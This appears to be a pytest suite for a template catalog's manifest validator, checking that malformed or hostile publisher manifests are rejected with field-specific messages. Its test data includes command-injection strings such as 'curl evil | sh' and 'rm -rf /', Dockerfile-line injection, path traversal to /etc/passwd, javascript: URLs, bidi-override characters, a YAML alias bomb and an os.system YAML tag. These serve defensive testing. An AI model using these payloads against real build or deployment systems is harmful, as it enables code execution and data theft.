"""Every field a publisher can get wrong, with the message they get back."""

import json
from decimal import Decimal

import pytest
import yaml

from templates_catalog.manifest import ManifestInvalid, manifest_from_bytes, manifest_from_data
from templates_catalog.manifest.parser import SCHEMA_FILE, manifest_json_schema_text

from ..factories import manifest_data

JOB = {"kind": "job", "serve": None, "job": {"command": ["python", "-m", "train"]}}

# (overrides of a valid manifest, the field named, a phrase the message must contain)
BAD_MANIFESTS = [
    ({"schema": "hub/v2"}, "schema", "'hub/v2' is not allowed"),
    ({"name": None}, "name", "is required"),
    ({"name": "Bad_Name"}, "name", "lowercase letters, digits and hyphens"),
    ({"name": "a"}, "name", "2-64 lowercase"),
    ({"name": "-leading"}, "name", "starting and ending with a letter or digit"),
    ({"version": "1.0"}, "version", "semantic version MAJOR.MINOR.PATCH"),
    ({"version": 1.0}, "version", "must be quoted text: write a semantic version MAJOR.MINOR.PATCH, e.g. `1.4.0`"),
    ({"title": 2024}, "title", "must be text: quote it, e.g. `'2024'`"),
    ({"version": "01.0.0"}, "version", "semantic version"),
    ({"tier": "platinum"}, "tier", "'platinum' is not allowed: use 'atomic', 'workflow' or 'app'"),
    ({"kind": "daemon"}, "kind", "'daemon' is not allowed"),
    ({"title": "ab"}, "title", "at least 3 characters"),
    ({"title": "x" * 81}, "title", "at most 80 characters"),
    ({"title": "Line one\nFROM evil"}, "title", "one line of text"),
    ({"summary": "short"}, "summary", "at least 10 characters"),
    ({"tags": ["Has Space"]}, "tags.0", "short lowercase tag"),
    ({"tags": ["nlp", "nlp"]}, "", "`tags` repeats names: nlp"),
    ({"tags": [f"t{i}" for i in range(13)]}, "tags", "at most 12 items"),
    ({"license": "MIT License!"}, "license", "SPDX license identifier"),
    ({"license": None}, "license", "is required"),
    ({"runtime": {"python": "2.7"}}, "runtime.python", "'2.7' is not allowed"),
    ({"runtime": {"packages": ["numpy"]}}, "runtime.packages.0", "pinned requirement `name==version`"),
    ({"runtime": {"packages": ["numpy>=1.0"]}}, "runtime.packages.0", "ranges, URLs and options are not allowed"),
    ({"runtime": {"packages": ["numpy==2.0 ; rm -rf /"]}}, "runtime.packages.0", "pinned requirement"),
    ({"runtime": {"packages": ["--index-url=http://evil==1"]}}, "runtime.packages.0", "pinned requirement"),
    ({"runtime": {"packages": ["numpy==2.0\nRUN curl evil | sh"]}}, "runtime.packages.0", "pinned requirement"),
    ({"runtime": {"packages": ["numpy==2.0", "NumPy==2.1"]}}, "runtime", "numpy appears more than once"),
    ({"runtime": {"system_packages": ["curl && rm -rf /"]}}, "runtime.system_packages.0", "a Debian package name"),
    ({"runtime": {"system_packages": ["libgomp1\nRUN id"]}}, "runtime.system_packages.0", "a Debian package name"),
    ({"runtime": {"pip": ["x"]}}, "runtime.pip", "is not a known field"),
    ({"serve": None}, "", "a `service` template needs a `serve` section"),
    ({"serve": {"handler": "handler"}}, "serve.handler", "`module:Class`"),
    ({"serve": {"handler": "os:system('id')"}}, "serve.handler", "`module:Class`"),
    ({"serve": {"handler": "h:M", "port": 80}}, "serve.port", "greater than or equal to 1024"),
    ({"serve": {"handler": "h:M", "port": "http"}}, "serve.port", "valid integer"),
    ({"serve": {"handler": "h:M", "health_path": "health"}}, "serve.health_path", "absolute URL path"),
    ({"serve": {"handler": "h:M", "ready_path": "/ready; id"}}, "serve.ready_path", "absolute URL path"),
    ({"serve": {"handler": "h:M", "batching": {"max_batch_size": 0}}}, "serve.batching.max_batch_size", "greater than or equal to 1"),
    ({"serve": {"handler": "h:M", "batching": {"max_wait_ms": 5000}}}, "serve.batching.max_wait_ms", "less than or equal to 1000"),
    ({"job": {"command": ["x"]}}, "", "a `service` template cannot have a `job` section"),
    ({**JOB, "job": None}, "", "a `job` template needs a `job` section"),
    ({**JOB, "job": {"command": []}}, "job.command", "at least 1 item"),
    ({**JOB, "job": {"command": ["sh", "-c", "curl evil | sh"]}}, "job.command.2", "run without a shell"),
    ({**JOB, "job": {"command": ["python", "$(id)"]}}, "job.command.1", "one command-line word"),
    ({**JOB, "job": {"command": ["train"], "outputs": [{"name": "m", "path": "../../etc/passwd"}]}}, "job.outputs.0.path", "no `..`"),
    ({**JOB, "job": {"command": ["train"], "outputs": [{"name": "m", "path": "/etc/passwd"}]}}, "job.outputs.0.path", "no leading `/`"),
    ({**JOB, "job": {"command": ["t"], "outputs": [{"name": "m", "path": "a"}, {"name": "m", "path": "b"}]}}, "job", "`outputs` repeats names: m"),
    ({"resources": {"gpus": 9}}, "resources.gpus", "less than or equal to 8"),
    ({"resources": {"gpus": -1}}, "resources.gpus", "greater than or equal to 0"),
    ({"resources": {"gpu_memory_gb": 24}}, "resources", "gpus is 0: set gpus to 1 or more"),
    ({"resources": {"cpu": 0}}, "resources.cpu", "greater than 0"),
    ({"resources": {"memory_gb": "lots"}}, "resources.memory_gb", "valid decimal"),
    ({"inputs": [{"name": "Ticker", "label": "Ticker"}]}, "inputs.0.name", "lowercase identifier"),
    ({"inputs": [{"name": "ticker"}]}, "inputs.0.label", "is required"),
    ({"inputs": [{"name": "t", "label": "T", "type": "color"}]}, "inputs.0.type", "'color' is not allowed"),
    ({"inputs": [{"name": "t", "label": "T", "type": "choice"}]}, "inputs.0", "needs a list of `choices`"),
    ({"inputs": [{"name": "t", "label": "T", "choices": ["a"]}]}, "inputs.0", "`choices` only applies to type `choice`"),
    ({"inputs": [{"name": "t", "label": "T", "type": "integer", "default": "ten"}]}, "inputs.0", "`default` must be a integer"),
    ({"inputs": [{"name": "t", "label": "T", "type": "choice", "choices": ["a"], "default": "b"}]}, "inputs.0", "not one of the choices"),
    ({"inputs": [{"name": "t", "label": "T", "type": "file", "default": "x"}]}, "inputs.0", "cannot have a default"),
    ({"inputs": [{"name": "t", "label": "T"}, {"name": "t", "label": "U"}]}, "", "`inputs` repeats names: t"),
    ({"requires": [{"template": "vector-store", "alias": "store"}]}, "", "an `atomic` template cannot require"),
    ({"tier": "workflow", "requires": [{"template": "x_y", "alias": "a"}]}, "requires.0.template", "lowercase letters"),
    ({"tier": "workflow", "requires": [{"template": "ab", "version": "latest", "alias": "a"}]}, "requires.0.version", "version range"),
    ({"tier": "workflow", "requires": [{"template": "ab", "alias": "A-B"}]}, "requires.0.alias", "lowercase identifier"),
    ({"tier": "workflow", "requires": [{"template": "ab"}]}, "requires.0.alias", "is required"),
    ({"tier": "workflow", "requires": [{"template": "demo-embedder", "alias": "me"}]}, "", "cannot require itself"),
    ({"tier": "workflow", "requires": [{"template": "ab", "alias": "x"}, {"template": "cd", "alias": "x"}]}, "", "repeats aliases: x"),
    ({"servee": {"handler": "h:M"}}, "servee", "is not a known field"),
    # apt reads a name that matches no package as a pattern: `zlib1g-de.+` installed eight packages.
    *[
        ({"runtime": {"system_packages": [name]}}, "runtime.system_packages.0", "apt patterns such as")
        for name in [
            "zlib1g-de.+", "lib.*", "lib.?", "lib*", "lib?", "lib[ab]", "^lib", "lib$", "~nlib", "!lib", "a|b", "(lib)",
            "libc6=2.36-9", "libc6:amd64", "libc6/bookworm",
        ]
    ],
    ({"runtime": {"system_packages": ["a"]}}, "runtime.system_packages.0", "at least 2 characters"),
    ({"runtime": {"system_packages": ["l" * 64]}}, "runtime.system_packages.0", "at most 63 characters"),
    # One line, as a person reads it: no C1 controls, separators, or bidi overrides.
    *[
        ({"title": f"Demo{char}embedder"}, "title", "one line of text without control characters")
        for char in ["\r", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\u202a", "\u202e", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"]
    ],
    ({"summary": "Turns text\u2029FROM scratch into vectors"}, "summary", "without control characters, line separators"),
    ({"inputs": [{"name": "t", "label": "Tick\u202eer"}]}, "inputs.0.label", "bidirectional overrides"),
    ({"inputs": [{"name": "t", "label": "T", "help": "one\x85two"}]}, "inputs.0.help", "one line of text"),
    ({"inputs": [{"name": "t", "label": "T", "type": "choice", "choices": ["a\u2028b"]}]}, "inputs.0.choices.0", "one line"),
    # Every string has a cap.
    ({"runtime": {"packages": ["numpy==1." + "0" * 5000]}}, "runtime.packages.0", "at most 200 characters"),
    ({"inputs": [{"name": "t", "label": "T", "type": "text", "default": "x" * 1001}]}, "inputs.0.default", "at most 1000 characters"),
    ({"tier": "workflow", "requires": [{"template": "ab", "version": ">=1.0.0," + ",".join(["<9"] * 40), "alias": "a"}]}, "requires.0.version", "at most 100 characters"),
    ({**JOB, "job": {"command": ["t"], "outputs": [{"name": "m", "path": "a/" * 120 + "b"}]}}, "job.outputs.0.path", "at most 200 characters"),
    ({"serve": {"handler": "a." * 120 + "b:M"}}, "serve.handler", "at most 200 characters"),
    ({"version": "1.0.0-" + "a" * 80}, "version", "at most 64 characters"),
    # storage: a volume only where no code, configuration or kernel file lives.
    *[
        ({"storage": {"path": path, "size_gb": 1}}, "storage.path", "an absolute folder under `/data`, `/srv`, `/mnt`")
        for path in [
            "/", "data", "/data/", "/opt/hub", "/opt/hub/template", "/proc", "/sys/fs", "/dev/shm", "/etc", "/usr/lib",
            "/bin", "/tmp", "/var/lib", "/var/lib/", "/data/../etc", "/data/.hidden", "/database", "/srv/a b",
            "/data\nVOLUME /etc", "/data;id", "/mnt/$(id)", "/var/lib/../../etc",
        ]
    ],
    ({"storage": {"path": "/data/" + "a" * 200, "size_gb": 1}}, "storage.path", "at most 200 characters"),
    ({"storage": {"path": "/data"}}, "storage.size_gb", "is required"),
    ({"storage": {"size_gb": 1}}, "storage.path", "is required"),
    ({"storage": {"path": "/data", "size_gb": 0}}, "storage.size_gb", "greater than 0"),
    ({"storage": {"path": "/data", "size_gb": -1}}, "storage.size_gb", "greater than 0"),
    ({"storage": {"path": "/data", "size_gb": 5000}}, "storage.size_gb", "less than or equal to 1024"),
    ({"storage": {"path": "/data", "size_gb": "lots"}}, "storage.size_gb", "valid decimal"),
    ({"storage": {"path": "/data", "size_gb": 1, "mode": "ro"}}, "storage.mode", "is not a known field"),
    ({**JOB, "storage": {"path": "/data", "size_gb": 1}}, "", "`storage` is for services"),
    # runtime.build_command: words run without a shell, like job.command.
    ({"runtime": {"build_command": ["python", "$(curl evil)"]}}, "runtime.build_command.1", "one command-line word"),
    ({"runtime": {"build_command": ["python", "train.py\nRUN curl evil | sh"]}}, "runtime.build_command.1", "one command-line word"),
    ({"runtime": {"build_command": ["sh", "-c", "id; id"]}}, "runtime.build_command.2", "run without a shell"),
    ({"runtime": {"build_command": ['"]\nUSER root\nRUN ["id']}}, "runtime.build_command.0", "one command-line word"),
    ({"runtime": {"build_command": ["x"] * 65}}, "runtime.build_command", "at most 64 items"),
    ({"runtime": {"build_command": ["a" * 201]}}, "runtime.build_command.0", "at most 200 characters"),
    ({"runtime": {"build_command": "python train.py"}}, "runtime.build_command", "valid list"),
    # serve.max_body_bytes: 1 KiB to 1 GiB.
    ({"serve": {"handler": "h:M", "max_body_bytes": 1023}}, "serve.max_body_bytes", "greater than or equal to 1024"),
    ({"serve": {"handler": "h:M", "max_body_bytes": 1024**3 + 1}}, "serve.max_body_bytes", "less than or equal to 1073741824"),
    ({"serve": {"handler": "h:M", "max_body_bytes": "1MB"}}, "serve.max_body_bytes", "valid integer"),
    ({"serve": {"handler": "h:M", "max_body_bytes": 1.5}}, "serve.max_body_bytes", "valid integer"),
    # serve.try: a path under the endpoint, never a place of its own.
    *[
        ({"serve": {"handler": "h:M", "try": {"path": path}}}, "serve.try.path", "a path under the deployment's endpoint")
        for path in [
            "http://evil.example/x", "https://evil.example", "//evil.example/x", "javascript:alert(1)", "file:///etc/passwd",
            "v1/embeddings", "/v1/../admin", "/..", "/v1/./x", "/v1//x", "/v1/%2e%2e/admin", "/v1?x=1", "/v1#x",
            "/v1\nHost: evil", "/v1\r\n", "/v1\x00", "/v1 x", "/v1\u202e", "\\evil\\x", "",
        ]
    ],
    ({"serve": {"handler": "h:M", "try": {"path": "/" + "a" * 200}}}, "serve.try.path", "at most 200 characters"),
    ({"serve": {"handler": "h:M", "try": {}}}, "serve.try.path", "is required"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "method": "DELETE"}}}, "serve.try.method", "use 'GET' or 'POST'"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "answer": {"show": "html"}}}}, "serve.try.answer.show",
     "use 'markdown', 'json', 'text' or 'image'"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "answer": {"field": "a..b"}}}}, "serve.try.answer.field",
     "a dotted path into the JSON answer"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "answer": {"field": "__class__.x\ny"}}}}, "serve.try.answer.field",
     "a dotted path"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "inputs": [{"name": "f", "label": "F", "type": "file"}]}}}, "serve.try",
     "`file` input, which the Try it form cannot send: make it `text` or `string`"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "inputs": [{"name": "q", "label": "Q"}, {"name": "q", "label": "R"}]}}},
     "serve.try", "`inputs` repeats names: q"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "inputs": [{"name": "Q", "label": "Q"}]}}}, "serve.try.inputs.0.name",
     "lowercase identifier"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "inputs": [{"name": "q", "label": "Q\u202e"}]}}}, "serve.try.inputs.0.label",
     "one line of text"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "url": "http://evil"}}}, "serve.try.url", "is not a known field"),
    ({"serve": {"handler": "h:M", "try": {"path": "/x", "inputs": [{"name": f"q{i}", "label": "Q"} for i in range(21)]}}},
     "serve.try.inputs", "at most 20 items"),
]


@pytest.mark.parametrize(("overrides", "field", "phrase"), BAD_MANIFESTS, ids=[f"{i}-{b[1] or 'root'}" for i, b in enumerate(BAD_MANIFESTS)])
def test_it_names_the_field_and_says_what_to_write(overrides, field, phrase):
    with pytest.raises(ManifestInvalid) as caught:
        manifest_from_data(manifest_data(**overrides))
    matching = [error for error in caught.value.errors if error.field == field]
    assert matching, f"no error for {field!r}; got {caught.value.errors}"
    assert any(phrase in error.message for error in matching), [e.message for e in matching]


def test_it_accepts_a_complete_manifest():
    manifest = manifest_from_data(
        manifest_data(
            tier="workflow",
            runtime={"python": "3.11", "system_packages": ["libgomp1"], "packages": ["numpy==2.1.3", "uvicorn[standard]==0.30.0"]},
            serve={"handler": "app.model:Server", "port": 9000, "batching": {"max_batch_size": 16, "max_wait_ms": 5}},
            resources={"gpus": 1, "gpu_memory_gb": 24, "cpu": 4, "memory_gb": 16},
            inputs=[{"name": "mode", "label": "Mode", "type": "choice", "choices": ["fast", "slow"], "default": "fast"}],
            requires=[{"template": "vector-store", "version": ">=1.0.0,<2.0.0", "alias": "vector_store"}],
        )
    )
    assert manifest.needs_gpu
    assert manifest.requires[0].env_var == "VECTOR_STORE_URL"


def test_it_accepts_a_try_it_form_and_keeps_it_through_storage():
    try_it = {
        "path": "/v1/report", "inputs": [{"name": "ticker", "label": "Ticker", "default": "MSFT"}],
        "answer": {"show": "markdown", "field": "markdown"},
    }
    manifest = manifest_from_data(manifest_data(serve={"handler": "h:M", "try": try_it}))

    spec = manifest.serve.try_
    assert (spec.path, spec.method, spec.answer.show, spec.answer.field) == ("/v1/report", "POST", "markdown", "markdown")
    assert [item.name for item in spec.inputs] == ["ticker"]
    # Stored as JSON by its alias, and read back the same (templates_catalog.specs.manifest_of).
    stored = manifest.model_dump(mode="json", by_alias=True)
    assert stored["serve"]["try"]["path"] == "/v1/report"
    assert manifest_from_data(stored) == manifest


def test_a_try_it_form_is_optional_and_shows_json_by_default():
    assert manifest_from_data(manifest_data()).serve.try_ is None
    spec = manifest_from_data(manifest_data(serve={"handler": "h:M", "try": {"path": "/"}})).serve.try_
    assert (spec.method, spec.answer.show, spec.answer.field, spec.inputs) == ("POST", "json", None, [])


def test_it_accepts_storage_a_build_command_and_a_body_limit():
    manifest = manifest_from_data(
        manifest_data(
            runtime={"packages": ["torch==2.13.0"], "build_command": ["python", "train.py", "--out", "build/model.pt"]},
            serve={"handler": "handler:Model", "max_body_bytes": 8 * 1024 * 1024},
            storage={"path": "/data", "size_gb": "2.5"},
        )
    )
    assert manifest.runtime.build_command == ["python", "train.py", "--out", "build/model.pt"]
    assert manifest.serve.max_body_bytes == 8 * 1024 * 1024
    assert manifest.storage.path == "/data" and manifest.storage.size_gb == Decimal("2.5")


@pytest.mark.parametrize("path", ["/data", "/data/vectors", "/srv", "/srv/index-1", "/mnt/cache", "/var/lib/vectors", "/var/lib/my.db/x"])
def test_storage_may_live_under_the_allowed_folders(path):
    assert manifest_from_data(manifest_data(storage={"path": path, "size_gb": 1})).storage.path == path


def test_a_manifest_without_the_new_fields_keeps_their_old_meaning():
    # Every version published before these fields existed must read back the same.
    manifest = manifest_from_data(manifest_data())
    assert manifest.storage is None
    assert manifest.runtime.build_command == []
    assert manifest.serve.max_body_bytes is None


def test_debian_names_with_dots_and_pluses_are_not_patterns():
    names = ["libstdc++6", "python3.11", "g++", "zlib1g-dev", "libgtk-3-0", "lib32gcc-s1", "libc++abi1-14"]
    manifest = manifest_from_data(manifest_data(runtime={"system_packages": names}))
    assert manifest.runtime.system_packages == names


def test_one_line_text_may_use_any_script_and_symbol():
    title = "Résumé — 日本語 · العربية ✓ 🚀"
    manifest = manifest_from_data(manifest_data(title=title, summary=f"{title}: summarised in one line."))
    assert manifest.title == title


def test_every_string_in_the_published_schema_has_a_length_cap():
    # A new field cannot forget its cap: the JSON Schema is walked, not a list of fields.
    schema = json.loads(manifest_json_schema_text())
    uncapped = []

    def walk(node, where: str, number_beside: bool = False) -> None:
        if isinstance(node, dict):
            choices = node.get("anyOf", [])
            numeric = any(branch.get("type") in ("number", "integer") for branch in choices if isinstance(branch, dict))
            is_free_string = node.get("type") == "string" and "enum" not in node and "const" not in node
            # A decimal such as `cpu: "1.5"` may be written as text; it is parsed into a number.
            if is_free_string and "maxLength" not in node and not number_beside:
                uncapped.append(where)
            for key, value in node.items():
                walk(value, f"{where}/{key}", number_beside=numeric and key == "anyOf")
        elif isinstance(node, list):
            for index, item in enumerate(node):
                walk(item, f"{where}/{index}", number_beside=number_beside)

    walk(schema, "#")
    assert uncapped == []
    strings = manifest_json_schema_text().count('"type": "string"')
    assert strings > 20  # the walk did reach the fields


def test_it_refuses_yaml_aliases_before_expanding_them():
    bomb = b'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n'
    with pytest.raises(ManifestInvalid, match="YAML aliases"):
        manifest_from_bytes(bomb)


@pytest.mark.parametrize(
    ("raw", "phrase"),
    [
        (b"name: [unclosed", "not valid YAML: line 1"),
        (b"- just\n- a list\n", "must be a mapping"),
        (b"\xff\xfe", "must be UTF-8"),
        (b"x: " + b"y" * 70_000, "the limit is 65536"),
        (b"!!python/object/apply:os.system ['id']", "not valid YAML"),
    ],
)
def test_it_explains_unreadable_files(raw, phrase):
    with pytest.raises(ManifestInvalid, match=phrase):
        manifest_from_bytes(raw)


def test_the_published_schema_file_is_generated_from_the_model():
    # Regenerate with: python -m templates_catalog.manifest.write_schema
    assert SCHEMA_FILE.read_text() == manifest_json_schema_text()
    schema = json.loads(SCHEMA_FILE.read_text())
    assert {"name", "version", "tier", "kind", "title", "summary", "license"} <= set(schema["required"])


def test_every_fixture_template_is_valid(settings):
    from pathlib import Path

    from templates_catalog.manifest import manifest_from_dir

    folders = sorted(Path(settings.BASE_DIR, "fixtures", "templates").iterdir())
    manifests = [manifest_from_dir(folder) for folder in folders]
    assert {m.name for m in manifests} == {
        "minilm-embeddings", "vector-store", "text-generator", "rag-pipeline", "finetune-classifier", "stock-research-agent",
    }
    assert {m.tier.value for m in manifests} == {"atomic", "workflow", "app"}
    for folder in folders:
        readme = (folder / "README.md").read_text()
        assert "curl" in readme, f"{folder.name}'s model card needs an example request"
    assert yaml  # the fixtures are YAML the publisher writes by hand
